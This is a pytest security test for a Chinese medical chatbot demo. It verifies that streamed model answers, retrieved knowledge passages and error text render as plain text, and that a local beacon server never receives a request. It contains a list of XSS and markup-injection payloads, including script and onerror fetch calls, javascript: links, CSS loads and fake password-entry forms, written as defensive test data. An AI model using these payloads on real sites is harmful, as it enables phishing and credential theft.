"""The demo renders text, not markup: hostile model output, knowledge passages and error messages in
a real Chromium, with a local beacon server that records any request a payload manages to cause.

Payloads (written for this test) arrive from a stub OpenAI-compatible endpoint as streamed answers,
from a knowledge file as retrieved passages, and as the endpoint's error text. The beacon must never
be hit, no form/iframe/remote image/script may exist in the page, and the page's CSP must stop
even markup injected straight into the DOM.
"""

from __future__ import annotations

import threading
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from eval.stub_server import StubResponse, StubServer, stream_events
from tests.conftest import free_port
from tests.demo.conftest import start_demo, stop_process, submit

pytestmark = pytest.mark.slow

# {b} is the beacon's base URL. Markup, Markdown images and links, entity and Unicode tricks.
PAYLOADS = [
    "<img src={b}/p01>",
    "请看检查单 ![报告]({b}/p02)",
    "<form action={b}/p03 method=post><input name=pw placeholder=请输入医保密码>"
    "<button>提交</button></form>",
    "<iframe src={b}/p04></iframe>",
    "<script>fetch('{b}/p05');window.__pwned=1</script>",
    "<svg onload=\"fetch('{b}/p06')\"></svg>",
    "<a href=\"javascript:fetch('{b}/p07')\">点我领取报告</a>",
    "[点我查看医保余额](javascript:fetch('{b}/p08'))",
    "&lt;img src={b}/p09&gt; 和 &#60;img src={b}/p09b&#62;",
    "![x][ref]\n\n[ref]: {b}/p10",
    "<img src=x onerror=\"fetch('{b}/p11')\">",
    "<link rel=stylesheet href={b}/p12>",
    "<style>@import url({b}/p13);</style>",
    '<div style="background:url({b}/p14)">背景</div>',
    "<video src={b}/p15 autoplay></video><audio src={b}/p15b autoplay></audio>",
    "<object data={b}/p16></object><embed src={b}/p16b>",
    '<meta http-equiv="refresh" content="0;url={b}/p17">',
    "<base href={b}/p18/>\n\n![相对](x.png)",
    "＜img src={b}/p19＞ <IMG SRC={b}/p19b> <im\u200bg src={b}/p19c>",
    "<{b}/p20> 和 [普通链接]({b}/p20b)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImZldGNoKCcvcDIxJykiLz4=)",
    "| 项目 | 结果 |\n|---|---|\n| 血常规 | <img src={b}/p22> |",
    "```html\n<img src={b}/p23>\n```",
    "<input type=password name=pw placeholder=请输入支付密码>",
    "<a href=\"jav&#x61;script:fetch('{b}/p25')\">x</a>",
    "<details open ontoggle=\"fetch('{b}/p26')\">展开</details>",
    '<img srcset="{b}/p27 1x"><picture><source srcset={b}/p27b></picture>',
    "<svg><image href={b}/p28 /></svg>",
    "[![x]({b}/p29)]({b}/p29b)",
    "\u202e<img src={b}/p30>",
    "<textarea>x</textarea><select><option>1</option></select><button formaction={b}/p31>x</button>",
]
ERROR_PAYLOAD = (
    "<img src={b}/err1> ![e]({b}/err2) "
    "<form action={b}/err3><input name=pw placeholder=请输入医保密码></form>"
)
KNOWLEDGE_PAYLOAD = (
    "胸痛 知识 <img src={b}/k1> ![k]({b}/k2) <form action={b}/k3><input name=pw></form> "
    "<a href=\"javascript:fetch('{b}/k4')\">k</a> <iframe src={b}/k5></iframe>"
)
# Anything a payload could have put into a chat bubble (forms are checked page-wide).
ELEMENTS = (
    "img", "iframe", "script", "svg", "object", "embed", "video", "audio", "input", "textarea",
    "select", "button", "a[href]", "link", "style", "meta", "base", "[style*=url]", "[onerror]",
    "[onload]", "[ontoggle]",
)  # fmt: skip
FORBIDDEN = ", ".join(
    f'#chat-0 [data-testid="{role}"] {element}' for role in ("bot", "user") for element in ELEMENTS
)


class Beacon(BaseHTTPRequestHandler):
    """Records every request path; a hit means a payload made the browser phone home."""

    hits: list[str]

    def _record(self) -> None:
        self.hits.append(f"{self.command} {self.path}")
        self.send_response(204)
        self.end_headers()

    do_GET = do_POST = do_HEAD = do_OPTIONS = _record

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def beacon():
    hits: list[str] = []
    httpd = ThreadingHTTPServer(("127.0.0.1", free_port()), partial(_beacon_handler, hits))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}", hits
    httpd.shutdown()
    httpd.server_close()


def _beacon_handler(hits, *args, **kwargs):
    handler = type("RecordingBeacon", (Beacon,), {"hits": hits})
    return handler(*args, **kwargs)


def hostile_model(base: str):
    """Answer question "payload N" with payload N (streamed), "error" with a 400 carrying markup."""

    def handler(request):
        if request.method != "POST":
            return None
        question = (request.json or {}).get("messages", [{}])[-1].get("content", "")
        if "error" in question:
            message = ERROR_PAYLOAD.format(b=base)
            return StubResponse(status=400, body={"error": {"message": message}})
        for number, payload in enumerate(PAYLOADS):
            if f"payload {number:02d}" in question:
                return StubResponse(events=stream_events(payload.format(b=base), 3))
        return StubResponse(events=stream_events("请立即就医。", 2))

    return handler


@pytest.fixture
def hostile_demo(beacon, tmp_path):
    base, _ = beacon
    knowledge = tmp_path / "knowledge"
    knowledge.mkdir()
    (knowledge / "poisoned.md").write_text(KNOWLEDGE_PAYLOAD.format(b=base), encoding="utf-8")
    server = StubServer(hostile_model(base)).start()
    demo = start_demo(
        ["--endpoint", server.base_url, "--knowledge", str(knowledge), "--timeout", "10"],
        free_port(),
        tmp_path / "demo.log",
    )
    yield demo
    stop_process(demo.process)
    server.stop()


def _ask(page, question: str, count: int) -> None:
    submit(page, question)
    try:
        page.wait_for_function(
            """(n) => document.querySelectorAll('#chat-0 [data-testid="bot"]').length >= n
                      && !document.querySelector('#status').innerText.includes('生成中')""",
            arg=count,
            timeout=90_000,
        )
    except Exception:
        bots = page.locator('#chat-0 [data-testid="bot"]').count()
        status = page.locator("#status").inner_text()
        raise AssertionError(
            f"{question!r}: {bots} answers (want {count}), status {status!r}"
        ) from None


def test_hostile_markup_is_shown_as_text_and_never_loads_or_submits(
    page, hostile_demo, beacon, artifacts
):
    base, hits = beacon
    requests: list[str] = []
    dialogs: list[str] = []
    blocked: dict[str, str] = {}
    page.on("request", lambda request: requests.append(request.url))
    page.on("requestfailed", lambda request: blocked.update({request.url: request.failure}))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    response = page.goto(hostile_demo.url)
    assert "form-action 'none'" in response.headers["content-security-policy"]
    page.locator("#use-rag input").check()
    count = 0
    for number in range(len(PAYLOADS)):
        count += 1
        _ask(page, f"胸痛 payload {number:02d}", count)
    count += 1
    _ask(page, "胸痛 error", count)
    page.wait_for_timeout(1500)  # give any late load (lazy images, refresh) time to fire
    page.screenshot(path=artifacts / "09_hostile_payloads.png", full_page=True)

    assert hits == [], hits
    assert dialogs == [] and page.evaluate("window.__pwned") is None
    assert page.locator(FORBIDDEN).count() == 0
    assert page.locator("form").count() == 0  # nowhere on the page
    # Gradio's own page asks cdnjs for iframe-resizer: the CSP must be what stops it
    foreign = [url for url in requests if not url.startswith(hostile_demo.url.rstrip("/"))]
    assert all(blocked.get(url) == "csp" for url in foreign), (
        foreign,
        blocked,
    )
    shown = page.locator("#chat-0").inner_text()
    assert f"<img src={base}/p01>" in shown  # the markup is there, as text
    assert "[图片：报告]" in shown and "请输入医保密码" in shown
    assert "参考资料" in shown and f"<img src={base}/k1>" in shown  # passages are text too
    assert f"<img src={base}/err1>" in shown  # and so is the endpoint's error message


def test_the_csp_stops_markup_injected_into_the_page(page, hostile_demo, beacon):
    base, hits = beacon
    page.goto(hostile_demo.url)
    page.wait_for_selector("#question textarea")
    page.evaluate(
        """(b) => {
          const img = new Image(); img.src = b + '/csp-img'; document.body.appendChild(img);
          const frame = document.createElement('iframe'); frame.src = b + '/csp-frame';
          document.body.appendChild(frame);
          const form = document.createElement('form'); form.action = b + '/csp-form';
          form.method = 'post'; document.body.appendChild(form);
          try { form.submit(); } catch (e) {}
          fetch(b + '/csp-fetch').catch(() => {});
        }""",
        base,
    )
    page.wait_for_timeout(1500)
    assert hits == [], hits
